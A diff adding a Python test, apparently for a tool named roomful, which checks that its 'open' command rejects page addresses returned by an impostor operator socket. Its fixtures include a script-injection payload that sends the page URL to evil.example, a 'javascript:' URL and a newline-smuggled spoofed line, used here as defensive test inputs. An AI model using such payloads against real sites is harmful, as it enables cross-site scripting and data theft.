@@ -1,0 +1,72 @@
+"""`roomful open` where a room answers what no room says: it may be another host of a site, or a program broken into."""
+import json
+import os
+import socket
+import threading
+
+HONEST = "http://127.0.0.1:8720/operator/#t=" + "A" * 43
+EVIL = 'https://127.0.0.1:1/"><script>location="https://evil.example/?"+document.URL</script><a href="'
+
+
+def answering(path, answers):
+    """A socket of an operator, behind which somebody answers each task with what is given."""
+    listener = socket.socket(socket.AF_UNIX)
+    listener.bind(str(path))
+    os.chmod(path, 0o600)
+    listener.listen()
+
+    def serve():
+        while True:
+            try:
+                connection, _ = listener.accept()
+            except OSError:
+                return
+            with connection, connection.makefile("rwb") as lines:
+                for line in lines:
+                    lines.write(json.dumps(answers.get(json.loads(line)["task"], {})).encode() + b"\n")
+                    lines.flush()
+
+    threading.Thread(target=serve, daemon=True).start()
+    return listener
+
+
+def status_of_a_room(started, environment):
+    """What a true room says of itself."""
+    room = started("host", "True", "--discovery", "none", "--policy", "open")
+    for line in room.stdout:
+        if "seat" in line:
+            break
+    run = os.path.join(environment["ROOMFUL_STATE"], "run")
+    (name,) = [name for name in os.listdir(run) if name.endswith(".sock")]
+    with socket.socket(socket.AF_UNIX) as connection:
+        connection.connect(os.path.join(run, name))
+        lines = connection.makefile("rwb")
+        lines.write(b'{"task":"status"}\n')
+        lines.flush()
+        status = json.loads(lines.readline())["status"]
+    room.terminate()
+    room.wait(timeout=30)
+    return status
+
+
+def test_an_address_that_no_room_makes_is_not_opened(started, roomful, environment, folder):
+    status = status_of_a_room(started, environment)
+    opener = folder / "bin/xdg-open"
+    opener.parent.mkdir()
+    opener.write_text(f'#!/bin/sh\ncp "$1" {folder}/opened.html\n')
+    opener.chmod(0o755)
+    desktop = {"DISPLAY": ":9", "PATH": f"{opener.parent}:{os.environ['PATH']}"}
+    path = folder / "state/run/double.sock"
+    for answer in (
+        {"pages": [EVIL]},
+        {"pages": [HONEST, "x\nroomful: spoofed line"]},
+        {"pages": [HONEST], "game": EVIL},
+        {"pages": [HONEST], "screen": "javascript:alert(1)"},
+    ):
+        with answering(path, {"status": {"status": status}, "pages": answer}) as listener:
+            for arguments in ([], ["--print"], ["--json"]):
+                code, out, err = roomful("open", *arguments, **desktop)
+                assert code == 1 and out == "" and "no room makes" in err, (answer, arguments, out, err)
+            listener.shutdown(socket.SHUT_RDWR)
+        path.unlink()
+    assert not (folder / "opened.html").exists()
